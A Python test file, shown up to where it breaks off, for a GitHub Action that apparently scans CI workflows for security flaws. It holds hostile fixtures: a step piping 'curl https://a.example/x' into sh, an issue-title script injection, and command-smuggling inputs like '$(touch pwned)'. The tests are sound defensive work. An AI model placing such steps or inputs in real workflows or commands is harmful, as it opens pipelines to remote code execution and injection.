"""The GitHub Action, its steps run as a runner runs them: environment files, event payloads, real git."""

from __future__ import annotations

import json
import os
import re
import shutil
import site
import subprocess
import sys
import tomllib
from base64 import b64encode
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import TYPE_CHECKING, Any, NamedTuple

import pytest
import yaml
from gitcommand import git
from schemas import validate

from pipelaw.cli import main

if TYPE_CHECKING:
    from collections.abc import Iterator

ROOT = Path(__file__).parents[1]
ACTION: dict[str, Any] = yaml.safe_load((ROOT / "action.yml").read_text("utf-8"))
INSTALL, SCAN, UPLOAD, VERDICT = ACTION["runs"]["steps"]
DOCUMENT = (ROOT / "docs" / "github-action.md").read_text("utf-8")
FLOW = ".github/workflows/ci.yml"

pytestmark = pytest.mark.skipif(
    shutil.which("bash") is None or shutil.which("git") is None,
    reason="the action's steps need bash and git",
)

HEAD = """\
on: [push, issues]
permissions: {}
jobs:
  greet:
    runs-on: ubuntu-24.04
    timeout-minutes: 5
    permissions:
      contents: write
    steps:
"""
HARMLESS = f"{HEAD}      - run: echo hello\n".replace("[push, issues]", "push")
INJECTED = '      - run: echo "${{ github.event.issue.title }}"\n'
DANGEROUS = HEAD + INJECTED
FETCHED = "      - run: curl https://a.example/x | sh\n"
BROKEN = "on: push\njobs: [\n"
TOKEN = "ghs_" + "a1" * 18


class Run:
    """One run of the action in a repository, step by step."""

    def __init__(self, folder: Path, python: Path, **inputs: str) -> None:
        self.workspace = folder / "repository"
        self.temp = folder / "temp"
        self.summary = folder / "summary.md"
        for made in (self.workspace / ".github" / "workflows", self.temp):
            made.mkdir(parents=True, exist_ok=True)
        self.inputs = {name: str(known["default"]) for name, known in ACTION["inputs"].items()}
        self.inputs["token"] = TOKEN
        self.inputs |= {name.replace("_", "-"): value for name, value in inputs.items()}
        self.steps: dict[str, dict[str, str]] = {"install": {"python": str(python)}}
        self.environment = {"GITHUB_SHA": "0" * 40, "GITHUB_REF": "refs/heads/main"}
        self.event({})
        self.uploaded: dict[str, str] = {}
        self.log = ""

    def write(self, text: str, path: str = FLOW) -> Run:
        (self.workspace / path).parent.mkdir(parents=True, exist_ok=True)
        (self.workspace / path).write_text(text)
        return self

    def event(self, payload: object, ref: str = "refs/heads/main") -> Run:
        file = self.temp / "event.json"
        file.write_text(json.dumps(payload))
        self.environment |= {"GITHUB_EVENT_PATH": str(file), "GITHUB_REF": ref}
        return self

    def value(self, text: str) -> str:
        """What the runner puts in for the expressions in a text."""

        def one(match: re.Match[str]) -> str:
            kind, _, rest = match[1].partition(".")
            if kind == "inputs":
                return self.inputs[rest]
            assert kind == "steps"
            step, _, name = rest.partition(".outputs.")
            return self.steps[step].get(name, "")

        return re.sub(r"\$\{\{ ([\w.-]+) \}\}", one, text)

    def holds(self, step: dict[str, Any], failed: int) -> bool:
        """Whether the condition of a step does."""
        inner = step.get("if", "${{ }}").removeprefix("${{ ").removesuffix("}}")
        terms = [term.strip() for term in inner.split("&&") if term.strip()]
        if "!cancelled()" not in terms and failed:
            return False
        pairs = [term.split(" != ''")[0] for term in terms if term != "!cancelled()"]
        return all(self.value(f"${{{{ {pair} }}}}") for pair in pairs)

    def step(self, step: dict[str, Any], **environment: str) -> int:
        """Run one step, and give its exit status."""
        output = self.temp.parent / "output"
        output.write_text("")
        result = subprocess.run(
            ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", step["run"]],
            cwd=self.workspace,
            check=False,
            capture_output=True,
            text=True,
            env={
                **{name: os.environ[name] for name in ("PATH", "HOME") if name in os.environ},
                **{name: self.value(str(value)) for name, value in step["env"].items()},
                "GITHUB_ACTION_PATH": str(ROOT),
                "GITHUB_OUTPUT": str(output),
                "GITHUB_STEP_SUMMARY": str(self.summary),
                "GITHUB_WORKSPACE": str(self.workspace),
                "RUNNER_TEMP": str(self.temp),
                "XDG_CACHE_HOME": str(Path(self.steps["install"]["python"]).parents[2]),
                **self.environment,
                **environment,
            },
        )
        self.log += result.stdout + result.stderr
        lines = output.read_text("utf-8").splitlines()
        self.steps[step.get("id", "")] = dict(line.split("=", 1) for line in lines)
        return result.returncode

    def scan(self, upload: int = 0) -> int:
        """Everything but the installation; the exit status of the action. `upload` is that step's."""
        failed = self.step(SCAN)
        if self.holds(UPLOAD, failed):
            self.uploaded = {name: self.value(text) for name, text in UPLOAD["with"].items()}
            failed = failed or upload
        if self.holds(VERDICT, failed):
            failed = self.step(VERDICT) or failed
        return failed

    @property
    def outputs(self) -> dict[str, str]:
        return {name: self.value(known["value"]) for name, known in ACTION["outputs"].items()}

    @property
    def page(self) -> str:
        return self.summary.read_text("utf-8")


@pytest.fixture(scope="module")
def python(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The Python of an environment that has the pipelaw which is being tested."""
    folder = tmp_path_factory.mktemp("environment") / "pipelaw"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", folder], check=True)
    [target] = [*folder.glob("lib/python*/site-packages"), *folder.glob("Lib/site-packages")]
    lines = [str(ROOT / "src"), *site.getsitepackages()]
    (target / "tested.pth").write_text("".join(f"{line}\n" for line in lines))
    [found] = [*folder.glob("bin/python"), *folder.glob("Scripts/python.exe")]
    return found


# --- what it reports


def test_findings_fail_the_job(tmp_path: Path, python: Path) -> None:
    run = Run(tmp_path, python).write(DANGEROUS)
    assert run.scan() == 1
    out = run.outputs
    assert (out["exit-code"], out["critical"], out["since"], out["new"]) == ("1", "1", "", "")
    words = ("critical", "high", "medium", "low", "info")
    assert int(out["findings"]) == sum(int(out[word]) for word in words)
    assert re.fullmatch(r"\d findings? of severity medium or above: 1 critical.*", out["reason"])
    assert f"::error title=pipelaw::{out['reason']}\n" in run.log
    sarif = json.loads(Path(out["sarif"]).read_text("utf-8"))
    uris = {
        result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
        for result in sarif["runs"][0]["results"]
    }
    assert uris == {FLOW}
    assert f"::error file={FLOW},line=10," in run.log
    assert run.page.startswith("## pipelaw: ")
    assert f"\n\n**Fails**: {out['reason']}.\n\nA full scan.\n\n| critical |" in run.page
    assert "**How to fix it" in run.page
    assert run.uploaded == {}


def test_without_findings_it_passes(tmp_path: Path, python: Path) -> None:
    run = Run(tmp_path, python, fail_on="high").write(HARMLESS)
    assert run.scan() == 0, run.log
    assert run.outputs["exit-code"] == run.outputs["critical"] == "0"
    assert run.outputs["reason"].endswith(" none of severity high or above")
    assert f"pipelaw: {run.outputs['reason']}\n" in run.log
    assert "\nPasses: " in run.page
    assert Path(run.outputs["sarif"]).is_file()


def test_the_policy_decides_where_the_workflow_does_not(tmp_path: Path, python: Path) -> None:
    run = Run(tmp_path, python).write(DANGEROUS).write("fail_on: never\n", ".pipelaw.yml")
    assert run.scan() == 0, run.log
    assert "the job passes whatever is found" in run.outputs["reason"]
    run.inputs["policy"] = "pipelaw:strict"
    assert run.scan() == 1
    assert "of severity low or above" in run.outputs["reason"]


def test_each_of_several_repositories_has_its_own_threshold(tmp_path: Path, python: Path) -> None:
    run = Run(tmp_path, python, paths="one\ntwo").write(DANGEROUS, f"one/{FLOW}")
    run.write(DANGEROUS, f"two/{FLOW}").write("fail_on: never\n", "one/.pipelaw.yml")
    assert run.scan() == 1, run.log
    assert int(run.outputs["critical"]) == 2
    assert run.outputs["reason"] == (
        "1 finding that the policy of its repository fails for: 1 critical"
    )
    run.write("fail_on: never\n", "two/.pipelaw.yml")
    assert run.scan() == 0
    assert "the job passes whatever is found" in run.outputs["reason"]
    run.write("fail_on: high\n", "one/.pipelaw.yml").write("fail_on: high\n", "two/.pipelaw.yml")
    assert run.scan() == 1
    assert run.outputs["reason"] == "2 findings of severity high or above: 2 critical"
    run.inputs["fail-on"] = "never"
    assert run.scan() == 0


def test_a_wrong_policy_among_several_is_told_apart(tmp_path: Path, python: Path) -> None:
    run = Run(tmp_path, python, paths="one\ntwo").write(HARMLESS, f"one/{FLOW}")
    run.write(HARMLESS, f"two/{FLOW}").write("fail-on: never\n", "two/.pipelaw.yml")
    run.write("fail_on: critical\n", "one/.pipelaw.yml")
    assert run.scan() == 3, run.log
    assert run.outputs["reason"].endswith("; 1 place could not be read")


def test_a_change_cannot_break_the_policy(tmp_path: Path, python: Path, origin: Origin) -> None:
    run = checkout(Run(tmp_path, python), origin, origin.merge)
    run.event(pull(origin), "refs/pull/7/merge")
    run.write("fail_on: hihg\n", ".pipelaw.yml")
    assert run.scan() == 2, run.log
    assert run.outputs["exit-code"] == "2"
    start = "the scan did not end: .pipelaw.yml:1:10: `fail_on` is one of"
    assert run.outputs["reason"].startswith(start)


def test_never_only_reports(tmp_path: Path, python: Path) -> None:
    run = Run(tmp_path, python, fail_on="never").write(DANGEROUS).write(BROKEN, ".gitlab-ci.yml")
    assert run.scan() == 0
    assert run.outputs["exit-code"] == "3"
    assert int(run.outputs["findings"]) >= 1
    assert "1 place could not be read" in run.outputs["reason"]


def test_what_cannot_be_read_fails_the_job(tmp_path: Path, python: Path) -> None:
    run = Run(tmp_path, python, fail_on="critical").write(BROKEN)
    assert run.scan() == 3
    assert run.outputs["reason"].endswith("1 place could not be read")


@pytest.mark.parametrize(
    ("inputs", "said"),
    [
        ({"fail_on": "severe"}, "'severe' is not one of"),
        ({"paths": "nowhere"}, "nowhere: no such file or folder"),
        ({"rules": "nowhere"}, "nowhere"),
        ({"policy": "nowhere.yml"}, "nowhere.yml: no such policy file"),
        ({"formats": "html"}, "formats: `html` lacks a file: say `html=FILE`"),
        ({"formats": "word=a.doc"}, "there is no format `word`"),
        ({"upload_sarif": "yes"}, "upload-sarif is true or false, not `yes`"),
        ({"since": "main"}, "there is no checkout that could be compared"),
    ],
    ids=lambda value: next(iter(value)) if isinstance(value, dict) else "",
)
def test_wrong_inputs_fail_the_job_and_say_why(
    tmp_path: Path, python: Path, inputs: dict[str, str], said: str
) -> None:
    run = Run(tmp_path, python, **inputs).write(DANGEROUS)
    assert run.scan() == 2
    assert said in run.outputs["reason"]
    assert "::error title=pipelaw::the scan did not end: " in run.log
    given = {name: value for name, value in run.outputs.items() if value}
    assert given == {"exit-code": "2", "reason": run.outputs["reason"]}
    assert run.page.startswith("## pipelaw: no result\n\n<pre>error: ")


RULE = """\
id: job-called-a
title: A job without a name
category: house
severity: low
confidence: low
for: job
when: job.id == "a"
message: "`{job.id}` says nothing"
why: Nobody knows what it is for.
fix: Give it a name.
examples: {}
"""


def test_paths_rules_and_formats_are_lists_of_lines(tmp_path: Path, python: Path) -> None:
    run = Run(
        tmp_path, python, paths="one\r\n\n two dirs/x\n", rules="own rules\n", fail_on="never"
    )
    run.inputs["formats"] = "html=a b.html\njunit=junit.xml"
    run.write(HARMLESS, f"one/{FLOW}").write(DANGEROUS).write(DANGEROUS, f"two dirs/x/{FLOW}")
    run.write(RULE, "own rules/job-called-a.yaml")
    assert run.scan() == 0, run.log
    assert "job-called-a" in Path(run.outputs["sarif"]).read_text("utf-8")
    assert f"two%20dirs/x/{FLOW}" in Path(run.outputs["sarif"]).read_text("utf-8")
    assert (run.workspace / "a b.html").read_text("utf-8").startswith("<!doctype html>")
    assert (run.workspace / "junit.xml").is_file()


def test_annotations_are_the_worst_findings_within_the_limits(tmp_path: Path, python: Path) -> None:
    steps = (FETCHED + INJECTED) * 8 + "      - uses: actions/checkout@v4\n" * 12
    run = Run(tmp_path, python).write(HEAD.replace("issues", "pull_request, issues") + steps)
    assert run.scan() == 1
    for command in ("error", "warning", "notice"):
        lines = re.findall(rf"(?m)^::{command} .*", run.log)
        assert len([line for line in lines if not line.startswith("::error title=")]) <= 10
    shown = re.findall(r"(?m)^::error file.*title=(\w+)%3A", run.log)
    assert shown == ["critical"] * 8 + ["high"] * 2
    assert "not shown as annotations" in run.log


# --- what it runs


def test_inputs_are_data(tmp_path: Path, python: Path) -> None:
    hostile = "$(touch pwned); `touch pwned` \"'\n--fail-on=never"
    inputs = dict.fromkeys((name.replace("-", "_") for name in ACTION["inputs"]), hostile)
    run = Run(tmp_path, python, **inputs).write(DANGEROUS)
    assert run.scan() == 2
    run = Run(tmp_path, python, paths=hostile, fail_on='"; touch pwned; "').write(DANGEROUS)
    assert run.scan() == 2
    assert not list(run.workspace.rglob("pwned"))


def test_no_message_is_a_command_of_the_runner(tmp_path: Path, python: Path) -> None:
    bad = '"##[error]a": 1\n"##[warning]b": 1\n'
    run = Run(tmp_path, python).write(DANGEROUS).write(bad, ".pipelaw.yml")
    assert run.scan() == 2
    assert "[error]a" in run.log
    assert "[error]a" in run.outputs["reason"]
    assert "(and 1 more)" in run.outputs["reason"]
    assert re.findall(r"(?m)^\s*::\w+|##\[", run.log) == ["::error"]


@pytest.mark.parametrize("name", ["RUNNER_TEMP", "GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY"])
def test_a_place_of_the_runner_that_is_not_there_is_named(
    tmp_path: Path, python: Path, name: str
) -> None:
    run = Run(tmp_path, python).write(HARMLESS)
    gone = tmp_path / "gone" / "file"
    run.environment[name] = str(gone)
    assert run.step(SCAN) == 2
    said = f"error: {name}: {gone}: cannot be written: No such file or directory\n"
    assert run.log.endswith(said)


def test_no_expression_stands_in_a_script() -> None:
    steps = (INSTALL, SCAN, VERDICT)
    assert [step["run"] for step in steps if "${{" in step["run"]] == []


def test_scripts_are_understood_by_the_bash_of_macos() -> None:
    later = re.compile(r"mapfile|readarray|declare -[An]|\$\{\w+(?:\^|,|@)|\|&|&>>|coproc|\[\[ -v")
    for step in (INSTALL, SCAN, VERDICT):
        assert not later.search(step["run"])
        subprocess.run(["bash", "-n", "-c", step["run"]], check=True)


def test_files_of_the_repository_are_not_imported(tmp_path: Path, python: Path) -> None:
    run = Run(tmp_path, python, fail_on="never").write(HARMLESS)
    for name in ("json", "venv", "pip", "yaml", "click", "sitecustomize", "pipelaw"):
        run.write("open('pwned', 'w')", f"{name}.py")
    run.environment["PYTHONPATH"] = str(run.workspace)
    assert run.scan() == 0, run.log
    assert not (run.workspace / "pwned").exists()


def test_the_upload_is_pinned() -> None:
    assert re.fullmatch(r"github/codeql-action/upload-sarif@[0-9a-f]{40}", UPLOAD["uses"])


def test_the_projects_own_pipelines_pass(tmp_path: Path, python: Path) -> None:
    # the runner hands over every value as it is written
    workflow = (ROOT / ".github/workflows/ci.yml").read_text("utf-8")
    jobs = yaml.load(workflow, Loader=yaml.BaseLoader)["jobs"]
    steps = [step for job in jobs.values() for step in job["steps"]]
    [inputs] = [step["with"] for step in steps if step.get("uses") == "./"]
    named = {name.replace("-", "_"): value for name, value in inputs.items()}
    run = Run(tmp_path, python, **named)
    run.workspace = ROOT
    assert run.scan() == 0, run.log


def test_pipelaw_has_nothing_against_the_action(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(ROOT)
    options = ("--policy", "pipelaw:strict", "--fail-on", "info", "--quiet")
    assert main(["scan", *options, "action.yml"]) == 0


@pytest.mark.skipif(
    not os.environ.get("PIPELAW_TEST_INSTALL"),
    reason="PIPELAW_TEST_INSTALL asks for no installation",
)
def test_it_installs_itself(tmp_path: Path, python: Path) -> None:
    run = Run(tmp_path, python).write(DANGEROUS).write("open('pwned', 'w')", "venv.py")
    settings = {name: value for name, value in os.environ.items() if name.startswith("PIP_")}
    assert run.step(INSTALL, PYTHONPATH=str(run.workspace), **settings) == 0, run.log
    assert run.steps["install"]["python"].startswith(str(run.temp))
    assert run.scan() == 1, run.log
    assert not (run.workspace / "pwned").exists()


def test_what_is_installed_is_pinned_by_hash() -> None:
    text = (ROOT / "requirements.txt").read_text("utf-8")
    pinned = dict(re.findall(r"(?m)^([\w.-]+)==\S+ \\\n    --hash=sha256:([0-9a-f]{64})", text))
    lines = [line for line in text.splitlines() if not line.startswith(("#", " "))]
    assert len(lines) == len(pinned)
    settings = tomllib.loads((ROOT / "pyproject.toml").read_text("utf-8"))
    needed = (*settings["project"]["dependencies"], *settings["build-system"]["requires"])
    assert {re.split(r"[<>=;\[ ]", name)[0].lower() for name in needed} <= pinned.keys()


def test_an_old_python_is_refused(tmp_path: Path, python: Path) -> None:
    old = tmp_path / "bin"
    old.mkdir()
    for name in ("python3", "python"):
        (old / name).write_text("#!/bin/sh\nexit 1\n")
        (old / name).chmod(0o755)
    run = Run(tmp_path, python)
    bash = Path(str(shutil.which("bash"))).parent
    assert run.step(INSTALL, PATH=f"{old}:{bash}", RUNNER_TOOL_CACHE=str(tmp_path)) == 1
    assert "::error title=pipelaw::pipelaw needs Python 3.11" in run.log


# --- what it compares with


class Origin(NamedTuple):
    """A repository with a pull request, as the forge keeps it."""

    server: Path
    folder: Path
    fork_point: str
    """Where the change began: what the event calls the base."""
    base: str
    """Where the base branch is by now, with a finding of its own."""
    change: str
    merge: str
    """Both merged, as the forge does for a pull request and for a merge group."""


@pytest.fixture(scope="module")
def origin(tmp_path_factory: pytest.TempPathFactory) -> Origin:
    server = tmp_path_factory.mktemp("server")
    folder = server / "octo" / "shop"
    folder.mkdir(parents=True)
    git(folder, "init", "-q", "-b", "main")

    def commit(files: dict[str, str]) -> str:
        for path, text in files.items():
            (folder / path).parent.mkdir(parents=True, exist_ok=True)
            (folder / path).write_text(text)
        git(folder, "add", "-A")
        git(folder, "commit", "-q", "-m", "x")
        return git(folder, "rev-parse", "HEAD")

    fork_point = commit({FLOW: DANGEROUS})
    git(folder, "checkout", "-q", "-b", "change")
    change = commit({".github/workflows/new.yml": HEAD + FETCHED, ".pipelaw.yml": WAIVED})
    git(folder, "checkout", "-q", "main")
    base = commit({".github/workflows/other.yml": HEAD + FETCHED})
    git(folder, "checkout", "-q", "--detach")
    git(folder, "merge", "-q", "--no-ff", "-m", "merge\n\nparent 1\n", "change")
    merge = git(folder, "rev-parse", "HEAD")
    git(folder, "update-ref", "refs/pull/7/merge", merge)
    git(folder, "update-ref", "refs/pull/7/head", change)
    git(folder, "checkout", "-q", "main")
    return Origin(server, folder, fork_point, base, change, merge)


WAIVED = "fail_on: never\nrules:\n  remote-script: off\n"
"""What a change says about itself."""


def checkout(run: Run, origin: Origin, commit: str, *, sha: str = "", depth: str = "1") -> Run:
    """Check out as actions/checkout does: one commit, no credentials."""
    shutil.rmtree(run.workspace)
    run.workspace.mkdir()
    git(run.workspace, "init", "-q")
    git(run.workspace, "remote", "add", "origin", origin.folder.as_uri())
    options = [f"--depth={depth}"] if depth else []
    git(run.workspace, "fetch", "-q", "--no-tags", *options, "origin", commit)
    git(run.workspace, "checkout", "-q", "--detach", "FETCH_HEAD")
    run.environment |= {
        "GITHUB_SHA": sha or commit,
        "GITHUB_SERVER_URL": origin.server.as_uri(),
        "GITHUB_REPOSITORY": "octo/shop",
    }
    return run


def pull(origin: Origin, repository: str | None = "octo/shop") -> dict[str, Any]:
    """The payload of an event about a pull request; `repository` has the change."""
    return {
        "action": "labeled",
        "pull_request": {
            "state": "open",
            "base": {"sha": origin.fork_point, "repo": {"full_name": "octo/shop"}},
            "head": {
                "sha": origin.change,
                "repo": {"full_name": repository} if repository else None,
            },
        },
    }


def rules_in(file: str) -> list[tuple[str, str]]:
    """Path and rule of every open result in a SARIF file, most severe ones only."""
    results = json.loads(Path(file).read_text("utf-8"))["runs"][0]["results"]
    return sorted(
        (result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"], result["ruleId"])
        for result in results
        if not result.get("suppressions") and result["level"] == "error"
    )


NEW = (".github/workflows/new.yml", "remote-script")
ADDED_MEANWHILE = (".github/workflows/other.yml", "remote-script")
OLD = (FLOW, "script-injection")


def test_a_pull_request_hears_about_itself_only(
    tmp_path: Path, python: Path, origin: Origin
) -> None:
    run = checkout(Run(tmp_path, python, upload_sarif="true"), origin, origin.merge)
    run.event(pull(origin), "refs/pull/7/merge")
    assert run.scan() == 1, run.log
    out = run.outputs
    # the event's base is older than what was merged into, and lacks what the base branch has since
    assert out["since"] == origin.base
    assert rules_in(out["sarif"]) == [NEW]
    assert out["new"] == out["findings"]
    assert int(out["known"]) >= 2
    assert "new finding" in out["reason"]
    assert f"Compared with `{origin.base}`; no policy or waiver of the change counts.\n" in run.page
    assert "| known | suppressed |" in run.page
    # code scanning compares for itself: what it does not get counts as mended
    assert run.uploaded["category"] == "pipelaw"
    assert rules_in(run.uploaded["sarif_file"]) == [OLD, NEW, ADDED_MEANWHILE]
    shallow = (run.workspace / ".git" / "shallow").read_text().split()
    assert sorted(shallow) == sorted([origin.merge, origin.base])
    assert origin.fork_point not in git(run.workspace, "rev-list", "--all", "FETCH_HEAD").split()


def test_a_forks_pull_request_gets_annotations_and_no_upload(
    tmp_path: Path, python: Path, origin: Origin
) -> None:
    for number, fork in enumerate(("someone/shop", None)):
        run = Run(tmp_path / str(number), python, upload_sarif="true")
        checkout(run, origin, origin.merge).event(pull(origin, fork), "refs/pull/7/merge")
        assert run.scan() == 1
        assert run.uploaded == {}
        assert rules_in(run.outputs["sarif"]) == [NEW]
        assert "::error file=.github/workflows/new.yml" in run.log
        said = "not uploaded to code scanning: a run for a fork's pull request has no right to"
        assert f"::notice title=pipelaw::{said}\n" in run.log
        assert f"\nNote: {said}.\n" in run.page


def test_the_head_of_a_pull_request_is_compared_with_the_events_base(
    tmp_path: Path, python: Path, origin: Origin
) -> None:
    run = checkout(Run(tmp_path, python), origin, origin.change, sha=origin.merge)
    run.event(pull(origin), "refs/pull/7/merge")
    assert run.scan() == 1
    assert run.outputs["since"] == origin.fork_point
    assert rules_in(run.outputs["sarif"]) == [NEW]
    assert f"/octo/shop/blob/{origin.change}/{NEW[0]}#L10" in run.page


def test_a_run_with_the_bases_rights_says_whether_it_sees_the_change(
    tmp_path: Path, python: Path, origin: Origin
) -> None:
    run = checkout(Run(tmp_path, python, upload_sarif="true"), origin, origin.base)
    run.event(pull(origin, "someone/shop"))
    assert run.scan() == 2
    assert "the base branch is checked out, not the change" in run.outputs["reason"]
    # the change's files as data, from a request within the repository
    checkout(run, origin, origin.change, sha=origin.base).event(pull(origin))
    assert run.scan() == 1
    assert rules_in(run.outputs["sarif"]) == [NEW]
    assert run.uploaded == {}
    assert "the results would be taken for another commit's" in run.log
    # a request that is merged
    merged = pull(origin)
    merged["pull_request"]["state"] = "closed"
    checkout(run, origin, origin.merge).event(merged)
    assert run.scan() == 1
    assert rules_in(run.outputs["sarif"]) == [NEW, ADDED_MEANWHILE]


def test_a_merge_group_is_compared_with_its_base(
    tmp_path: Path, python: Path, origin: Origin
) -> None:
    run = checkout(Run(tmp_path, python, upload_sarif="true"), origin, origin.merge)
    group = {"base_sha": origin.base, "head_sha": origin.merge}
    run.event(
        {"action": "checks_requested", "merge_group": group}, "refs/heads/gh-readonly-queue/main/7"
    )
    assert run.scan() == 1
    assert run.outputs["since"] == origin.base
    assert rules_in(run.outputs["sarif"]) == [NEW]
    assert run.uploaded == {}
    assert "merge queue" in run.log


@pytest.mark.parametrize(
    "payload",
    [
        {"before": "1" * 40, "after": "2" * 40, "commits": []},
        {"schedule": "17 4 * * 1"},
        {"inputs": None, "ref": "refs/heads/main"},
        {"pull_request": None, "merge_group": []},
        [],
    ],
    ids=["push", "schedule", "workflow_dispatch", "odd", "list"],
)
def test_other_events_scan_everything(
    tmp_path: Path, python: Path, origin: Origin, payload: object
) -> None:
    run = checkout(Run(tmp_path, python, upload_sarif="true"), origin, origin.base)
    run.event(payload)
    assert run.scan() == 1
    assert (run.outputs["since"], run.outputs["new"], run.outputs["known"]) == ("", "", "0")
    found = rules_in(run.uploaded["sarif_file"])
    assert found == rules_in(run.outputs["sarif"]) == [OLD, ADDED_MEANWHILE]


def test_a_push_is_compared_where_the_workflow_asks(
    tmp_path: Path, python: Path, origin: Origin
) -> None:
    run = checkout(Run(tmp_path, python, since=origin.fork_point), origin, origin.base)
    assert run.scan() == 1
    assert rules_in(run.outputs["sarif"]) == [ADDED_MEANWHILE]
    run.inputs["since"] = "0" * 40  # what a push that creates a branch has before
    assert run.scan() == 1
    assert run.outputs["since"] == ""
    run.inputs["since"] = "main"
    assert run.scan() == 2
    assert "this clone is shallow and does not have the revision `main`" in run.outputs["reason"]


def test_a_full_clone_stays_one(tmp_path: Path, python: Path, origin: Origin) -> None:
    run = checkout(Run(tmp_path, python), origin, origin.fork_point, depth="")
    run.inputs["since"] = origin.base
    assert run.scan() == 0, run.log
    assert not (run.workspace / ".git" / "shallow").exists()


def test_none_scans_everything(tmp_path: Path, python: Path, origin: Origin) -> None:
    run = checkout(Run(tmp_path, python, since="none", fail_on="high"), origin, origin.merge)
    run.inputs["policy"] = "pipelaw:default"
    run.event(pull(origin), "refs/pull/7/merge")
    assert run.scan() == 1
    assert rules_in(run.outputs["sarif"]) == [OLD, NEW, ADDED_MEANWHILE]


def test_a_base_that_cannot_be_had_is_no_pass(tmp_path: Path, python: Path, origin: Origin) -> None:
    run = checkout(Run(tmp_path, python), origin, origin.merge)
    run.event(pull(origin), "refs/pull/7/merge")
    run.environment["GITHUB_REPOSITORY"] = "octo/gone"
    assert run.scan() == 2
    reason = run.outputs["reason"]
    assert (
        f"{origin.base}, to compare with, is not in this checkout and cannot be fetched" in reason
    )
    for remedy in ("contents: read", "fetch-depth: 0", "since: none"):
        assert remedy in reason
        assert remedy in run.page
    assert run.outputs["findings"] == run.outputs["sarif"] == ""


def test_a_baseline_counts_where_nothing_is_compared(
    tmp_path: Path, python: Path, origin: Origin
) -> None:
    run = checkout(Run(tmp_path, python, baseline="known.json"), origin, origin.merge)
    listed = run.workspace / "known.json"
    paths = ("baseline", "--policy=pipelaw:default", f"--output={listed}", str(run.workspace))
    assert main(paths) == 0
    run.event({})
    assert run.scan() == 0, run.log
    assert int(run.outputs["known"]) >= 3
    run.event(pull(origin), "refs/pull/7/merge")
    assert run.scan() == 1
    assert rules_in(run.outputs["sarif"]) == [NEW]


def test_what_is_excused_is_not_uploaded(tmp_path: Path, python: Path) -> None:
    ignored = DANGEROUS.replace(
        "\n      - run", "\n      # pipelaw: ignore[script-injection] safe\n      - run"
    )
    run = Run(tmp_path, python, upload_sarif="true").write(ignored)
    run.scan()
    everything = Path(run.outputs["sarif"]).read_text("utf-8")
    assert '"ruleId": "script-injection"' in everything
    uploaded = Path(run.uploaded["sarif_file"]).read_text("utf-8")
    assert '"ruleId": "script-injection"' not in uploaded
    assert '"suppressions"' not in uploaded


def test_the_verdict_is_told_where_the_upload_fails(tmp_path: Path, python: Path) -> None:
    run = Run(tmp_path, python, upload_sarif="true").write(HARMLESS)
    assert run.scan(upload=1) == 1
    assert f"pipelaw: {run.outputs['reason']}" in run.log


def test_checkouts_below_the_workspace_are_compared_too(
    tmp_path: Path, python: Path, origin: Origin
) -> None:
    run = checkout(Run(tmp_path, python, paths="code/.github"), origin, origin.merge)
    inner = run.workspace.rename(tmp_path / "code")
    run.workspace.mkdir()
    inner.rename(run.workspace / "code")
    run.event(pull(origin), "refs/pull/7/merge")
    assert run.scan() == 1, run.log
    assert run.outputs["since"] == origin.base
    assert [rule for _, rule in rules_in(run.outputs["sarif"])] == ["remote-script"]


def test_the_step_that_init_writes_tells_a_pull_request_what_is_new(
    tmp_path: Path,
    python: Path,
    origin: Origin,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    text = (ROOT / "src/pipelaw/data/steps/github.yml").read_text("utf-8")
    checked_out, _, scan, whole = yaml.safe_load(text)["jobs"]["pipelaw"]["steps"]
    assert [scan["if"], whole["if"]] == [
        "github.event_name == 'pull_request'",
        "github.event_name != 'pull_request'",
    ]
    depth = str(checked_out["with"]["fetch-depth"])
    run = checkout(Run(tmp_path, python), origin, origin.merge, depth=depth)
    monkeypatch.chdir(run.workspace)
    program, *arguments = scan["run"].split()
    assert (program, main(arguments)) == ("pipelaw", 1)
    assert re.findall(r"(?m)^::error file=([^,]+)", capsys.readouterr().out) == [NEW[0]]


# --- how it fetches


class Forge(BaseHTTPRequestHandler):
    """Git over HTTP, for those who send one token, once."""

    origin: Origin
    refused: list[list[str]]

    def do_GET(self) -> None:
        self.serve(b"")

    def do_POST(self) -> None:
        self.serve(self.rfile.read(int(self.headers["Content-Length"])))

    def serve(self, body: bytes) -> None:
        sent = self.headers.get_all("Authorization") or []
        expected = b64encode(f"x-access-token:{TOKEN}".encode()).decode()
        if sent != [f"Basic {expected}"]:
            self.refused.append(sent)
            self.send_error(401 if not sent else 400)
            return
        path, _, query = self.path.partition("?")
        done = subprocess.run(
            ["git", "http-backend"],
            input=body,
            capture_output=True,
            check=True,
            env={
                "PATH": os.environ["PATH"],
                "GIT_PROJECT_ROOT": str(self.origin.server),
                "GIT_HTTP_EXPORT_ALL": "1",
                "GIT_PROTOCOL": self.headers.get("Git-Protocol", ""),
                "GIT_CONFIG_COUNT": "1",
                "GIT_CONFIG_KEY_0": "safe.directory",
                "GIT_CONFIG_VALUE_0": "*",
                "PATH_INFO": path,
                "QUERY_STRING": query,
                "REQUEST_METHOD": self.command,
                "CONTENT_TYPE": self.headers.get("Content-Type", ""),
            },
        ).stdout
        head, _, content = done.partition(b"\r\n\r\n")
        self.send_response(200)
        for line in head.decode().splitlines():
            name, _, value = line.partition(": ")
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(content)

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002  the base's name
        """Say nothing."""


@pytest.fixture
def forge(origin: Origin) -> Iterator[tuple[str, list[list[str]]]]:
    """The address of a forge, and the credentials that it has refused."""
    refused: list[list[str]] = []
    handler = type("Here", (Forge,), {"origin": origin, "refused": refused})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    Thread(target=server.serve_forever, args=(0.01,), daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", refused
    server.shutdown()
    server.server_close()


@pytest.mark.parametrize("persisted", [False, True])
def test_the_token_goes_to_the_forge_and_nowhere_else(
    tmp_path: Path,
    python: Path,
    origin: Origin,
